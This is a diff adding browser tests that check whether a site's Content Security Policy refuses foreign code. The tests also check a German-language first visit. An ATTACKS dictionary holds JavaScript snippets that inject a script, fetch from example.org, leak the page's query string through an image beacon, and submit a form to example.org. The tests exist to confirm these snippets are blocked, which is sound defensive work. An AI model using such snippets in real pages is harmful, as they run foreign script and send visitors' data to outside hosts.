@@ -1,0 +1,30 @@
+"""What asgi.py forbids, in a browser. What it must not forbid is tested by all other tests: they are served by it."""
+
+ATTACKS = {
+    "script-src": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.bad = 1'}))",
+    "connect-src": "fetch('https://example.org/').catch(() => 0)",
+    "img-src": "new Image().src = 'https://example.org/' + location.search",
+    "form-action": "const form = document.createElement('form'); form.action = 'https://example.org';"
+    "document.body.append(form); form.submit()",
+}
+
+
+def test_what_is_not_ours_is_refused(app, visit):
+    """Foreign code in a page could neither run nor tell anybody what was typed; and the visit notices it."""
+    there = visit()
+    page = there.open(f"{app}/rules")
+    for directive, attack in ATTACKS.items():
+        page.evaluate(f"() => {{ {attack} }}")
+        page.wait_for_timeout(100)
+        assert any(directive in text for text in there.refused), directive
+        there.refused.clear()
+    assert page.evaluate("window.bad") is None
+    there.requests.clear()  # what was refused is listed as asked for, though it never left
+
+
+def test_a_first_visit_in_german(app, visit):
+    """The page speaks the visitor's language before the first script runs; the console stays silent."""
+    there = visit("phone", locale="de-DE")
+    page = there.open(app)
+    assert page.evaluate("document.documentElement.lang") == "de"
+    assert there.errors == []
